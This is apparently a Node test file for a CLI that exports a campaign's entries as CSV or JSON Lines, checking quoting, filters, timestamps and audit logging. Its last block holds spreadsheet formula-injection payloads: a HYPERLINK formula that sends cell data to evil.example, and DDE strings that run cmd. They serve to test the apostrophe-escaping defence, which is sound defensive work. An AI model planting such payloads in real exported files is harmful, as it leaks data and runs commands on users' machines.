// ces entries export (issue 7, Exports): streams a campaign's entries as RFC 4180 CSV or JSON Lines
// with the documented columns, filters by mode and status, writes --out atomically, draws no
// progress bar when stderr is not a terminal. That memory stays flat, measured on a child process,
// is in test/slow/export-memory.test.ts.
import { parse } from 'csv-parse/sync';
import assert from 'node:assert/strict';
import { existsSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { Ctx } from '../src/kernel/context.ts';
import { EXPORT_COLUMNS } from '../src/exports/entries-export.ts';
import { renderProgress } from '../cli/progress.ts';
import { entryBody, makeCampaign, makePrize, ROOT, runCli, startTestServer, submitEntry } from './support/harness.ts';
import { openTestCtx, seedEntries } from './support/seed-entries.ts';

const TRICKY_NAMES = ['Silva, Maria', 'João "Zé" Souza', 'line one\nline two', 'carriage\r\nreturn', '=1+1', ' padded ', 'Ação ñ 😀'];

describe('entries export: format and filters', () => {
  let ctx: Ctx;
  let dir: string;
  let dbPath: string;
  let campaignId: string;
  let prizeId: string;

  before(() => {
    ({ ctx, dir, dbPath } = openTestCtx());
    const world = makeCampaign(ctx);
    campaignId = world.campaign.id;
    prizeId = makePrize(ctx, campaignId, 'live').id;
    seedEntries(ctx, {
      campaignId,
      count: 20,
      status: (i) => (i % 4 === 3 ? 'REJECTED' : i % 4 === 2 ? 'PENDING' : 'APPROVED'),
      name: (i) => (i < TRICKY_NAMES.length ? TRICKY_NAMES[i] : i === 7 ? null : `Participant ${i}`),
      award: (i) => (i === 0 ? prizeId : null),
      lucky: (i) =>
        i === 0
          ? [
              [1, 7],
              [0, 42],
            ]
          : i === 1
            ? [[0, 1]]
            : [],
      rejection: (i) =>
        i % 4 === 3
          ? [
              { code: 'fiscal_key_invalid', message: 'x' },
              { code: 'duplicate_access_key', message: 'y, z' },
            ]
          : [],
      // Stored as the integrator sent it; exported in UTC like every other timestamp.
      grantedAt: (i) =>
        i === 0 ? '2026-11-22T09:00:00-03:00' : i === 1 ? '2026-11-22t14:30:00.123456789+0530' : '2026-11-22T12:00:00.000Z',
    });
    seedEntries(ctx, { campaignId, livemode: 0, count: 5, from: 100 });
    // Another campaign's entries never leak into this export.
    seedEntries(ctx, { campaignId: makeCampaign(ctx).campaign.id, count: 3 });
    ctx.db.close();
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  test("docs/operations.md's table of columns names every column in the export's order", () => {
    const page = readFileSync(join(ROOT, 'docs/operations.md'), 'utf8');
    const start = page.indexOf('Columns, in order (the CSV header and the keys of each JSON line):');
    assert.ok(start >= 0, 'the table is still introduced by that sentence');
    const table = page.slice(start).split('\n\n')[1];
    // The first cell of each row, after the header and its rule, names one or more columns.
    const documented = table
      .split('\n')
      .slice(2)
      .flatMap((row) => [...row.split('|')[1].matchAll(/`([a-z_0-9]+)`/g)].map((m) => m[1]));
    assert.deepEqual(documented, [...EXPORT_COLUMNS]);
  });

  test('CSV: header of the documented columns, one record per entry, RFC 4180 quoting that a real parser reads back', async () => {
    const out = join(dir, 'all.csv');
    const res = await runCli(['entries', 'export', '--campaign', campaignId, '--format', 'csv', '--out', out, '--json'], { dbPath });
    assert.equal(res.code, 0, res.stderr);
    assert.deepEqual(res.json, { campaign_id: campaignId, format: 'csv', rows: 25, file: out, elapsed_ms: res.json.elapsed_ms });
    const text = readFileSync(out, 'utf8');
    assert.ok(text.endsWith('\r\n'), 'records end with CRLF');
    const records: string[][] = parse(text, { relax_column_count: false });
    assert.deepEqual(records[0], [...EXPORT_COLUMNS]);
    assert.equal(records.length, 26);
    const rows = records.slice(1).map((r) => Object.fromEntries(EXPORT_COLUMNS.map((c, i) => [c, r[i]])));
    assert.deepEqual(
      rows.slice(0, TRICKY_NAMES.length).map((r) => r.full_name),
      TRICKY_NAMES.map((n) => (n.startsWith('=') ? `'${n}` : n)),
      'names with commas, quotes and newlines round-trip unchanged; a formula gets its apostrophe',
    );
    assert.equal(rows[7].full_name, '', 'null is an empty field');
    assert.equal(rows[0].award_status, 'awarded');
    assert.equal(rows[0].award_prize_id, prizeId);
    assert.equal(rows[0].lucky_numbers, '0/00042 1/00007', 'lucky numbers joined, ordered by series and number, written S/EEEEE');
    assert.equal(rows[1].lucky_numbers, '0/00001');
    assert.equal(rows[3].rejection_reasons, 'fiscal_key_invalid;duplicate_access_key');
    assert.equal(rows[0].consent_term_version, 'v1');
    assert.equal(rows[0].consent_granted_at, '2026-11-22T12:00:00.000Z', 'sent as 2026-11-22T09:00:00-03:00');
    assert.equal(rows[1].consent_granted_at, '2026-11-22T09:00:00.123Z', 'sent as 2026-11-22t14:30:00.123456789+0530');
    assert.deepEqual(
      rows.map((r) => r.livemode),
      [...Array(20).fill('true'), ...Array(5).fill('false')],
    );
    assert.deepEqual(
      readdirSync(dir).filter((f) => f.includes('.tmp')),
      [],
      'no temp file left behind',
    );
  });

  test('JSONL to stdout: one JSON object per line with typed values, filtered by --mode and --status', async () => {
    const res = await runCli(
      ['entries', 'export', '--campaign', campaignId, '--format', 'jsonl', '--mode', 'live', '--status', 'approved'],
      { dbPath },
    );
    assert.equal(res.code, 0, res.stderr);
    const lines = res.stdout
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l));
    assert.equal(lines.length, 10);
    assert.ok(lines.every((l) => l.status === 'APPROVED' && l.livemode === true));
    assert.deepEqual(Object.keys(lines[0]), [...EXPORT_COLUMNS]);
    assert.deepEqual(lines[0].lucky_numbers, [
      { series: '0', order_number: '00042' },
      { series: '1', order_number: '00007' },
    ]);
    assert.equal(lines[0].full_name, TRICKY_NAMES[0]);
    assert.deepEqual(
      lines.slice(0, 2).map((l) => l.consent_granted_at),
      ['2026-11-22T12:00:00.000Z', '2026-11-22T09:00:00.123Z'],
      'in UTC, as every timestamp',
    );
    for (const l of lines) {
      for (const column of EXPORT_COLUMNS.filter((c) => c.endsWith('_at')))
        assert.ok(l[column] === null || /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/.test(l[column]), `${column} ${l[column]}`);
    }
    assert.match(res.stderr, /^exported 10 entries in \d+ ms\n$/, 'stderr has the summary and, not being a TTY, no progress bar');
    const rejected = await runCli(['entries', 'export', '--campaign', campaignId, '--format', 'jsonl', '--status', 'REJECTED'], { dbPath });
    const reasons = rejected.stdout
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l).rejection_reasons);
    assert.equal(reasons.length, 5);
    assert.deepEqual(reasons[0], [
      { code: 'fiscal_key_invalid', message: 'x' },
      { code: 'duplicate_access_key', message: 'y, z' },
    ]);
    // Each export is audited, as the dashboard's download is: who took which rows, in what format.
    const audit = await runCli(['audit', 'list', '--action', 'entries.exported', '--limit', '2', '--json'], { dbPath });
    assert.deepEqual(
      audit.json.map((r: { actor: string; campaign_id: string; details: unknown }) => [
        r.actor.startsWith('cli:'),
        r.campaign_id,
        r.details,
      ]),
      [
        [true, campaignId, { format: 'jsonl', mode: 'both', status: 'REJECTED', rows: 5 }],
        [true, campaignId, { format: 'jsonl', mode: 'live', status: 'APPROVED', rows: 10 }],
      ],
    );
  });

  test('bad options and unknown campaigns fail with one line and exit 1, and leave no file', async () => {
    const out = join(dir, 'never.csv');
    const cases: Array<[string[], string]> = [
      [['--campaign', campaignId, '--format', 'xml', '--out', out], 'invalid_option'],
      [['--campaign', campaignId, '--mode', 'prod', '--out', out], 'invalid_mode'],
      [['--campaign', campaignId, '--status', 'DONE', '--out', out], 'invalid_option'],
      [['--campaign', '00000000-0000-4000-8000-000000000000', '--out', out], 'not_found'],
      [['--campaign', campaignId], 'invalid_option'], // --json without --out: stdout would mix data and summary
      [['--campaign', campaignId, '--out', join(dir, 'no-such-folder', 'x.csv')], 'cannot_write_file'],
    ];
    const exportsRecorded = async (): Promise<number> =>
      (await runCli(['audit', 'list', '--action', 'entries.exported', '--limit', '1000', '--json'], { dbPath })).json.length;
    const recordedBefore = await exportsRecorded();
    for (const [args, code] of cases) {
      const res = await runCli(['entries', 'export', ...args, '--json'], { dbPath });
      assert.equal(res.code, 1, args.join(' '));
      assert.equal(res.json.error.code, code, args.join(' '));
      assert.equal(res.stderr.split('\n').filter(Boolean).length, 1);
    }
    assert.equal(existsSync(out), false);
    assert.equal(await exportsRecorded(), recordedBefore, 'a refused export records nothing');
  });

  test('the progress bar shows percent, counts, rate and ETA', () => {
    assert.equal(
      renderProgress({ done: 25_000, total: 100_000, elapsedMs: 500 }),
      '[######------------------]  25%  25,000/100,000  50,000 rows/s  ETA 2s',
    );
    assert.equal(renderProgress({ done: 0, total: 0, elapsedMs: 0 }), '[########################] 100%  0/0  0 rows/s  ETA ?');
  });
});

// docs/operations.md#exports-ces-entries-export: a text cell that starts with =, +, -, @, TAB or CR
// is written with a leading apostrophe, so a spreadsheet shows it instead of running it; JSON Lines
// keeps the values exactly as stored. The values come in through the real API, as an attacker would
// send them (the API trims a leading TAB or CR: test/unit/csv.test.ts covers those).
describe('entries export: spreadsheet formulas from the API are never run', () => {
  const FORMULAS: Array<[field: string, value: string]> = [
    ['full_name', '=HYPERLINK("https://evil.example/?d="&A1,"Click")'],
    ['address_line_1', "+cmd|' /C calc'!A0"],
    ['address_line_2', "@SUM(1+1)*cmd|' /C calc'!A0"],
    ['neighborhood', "-2+3+cmd|' /C calc'!A0"],
    ['city', '=1+1'],
  ];
  // After a letter: no spreadsheet splits a cell there (after a space it may: test/unit/csv.test.ts).
  const HARMLESS = 'Ana=not at the start';

  test('CSV prefixes each formula cell with an apostrophe; JSONL keeps every value as stored', async () => {
    const t = await startTestServer();
    try {
      const w = makeCampaign(t.ctx);
      const { full_name, ...address } = Object.fromEntries(FORMULAS);
      const enrollment = { full_name, address };
      const res0 = await submitEntry(t, w.liveKey, entryBody({ enrollment }, 0), 'formula-1');
      const res1 = await submitEntry(t, w.liveKey, entryBody({ enrollment: { full_name: HARMLESS } }, 1), 'formula-2');
      const out = join(t.dir, 'formulas.csv');
      const csv = await runCli(['entries', 'export', '--campaign', w.campaign.id, '--out', out, '--json'], { dbPath: t.dbPath });
      assert.equal(csv.code, 0, csv.stderr);
      const records: string[][] = parse(readFileSync(out, 'utf8'));
      const rows = records.slice(1).map((r) => Object.fromEntries(EXPORT_COLUMNS.map((c, i) => [c, r[i]])));
      const attacked = rows.find((r) => r.entry_id === res0.entry_id)!;
      for (const [field, value] of FORMULAS) assert.equal(attacked[field], `'${value}`, field);
      assert.equal(rows.find((r) => r.entry_id === res1.entry_id)!.full_name, HARMLESS, 'a formula character after a letter is left alone');

      const jsonl = await runCli(['entries', 'export', '--campaign', w.campaign.id, '--format', 'jsonl'], { dbPath: t.dbPath });
      assert.equal(jsonl.code, 0, jsonl.stderr);
      const line = jsonl.stdout
        .trimEnd()
        .split('\n')
        .map((l) => JSON.parse(l))
        .find((l) => l.entry_id === res0.entry_id);
      for (const [field, value] of FORMULAS) assert.equal(line[field], value, `${field} as stored`);
    } finally {
      await t.close();
    }
  });
});
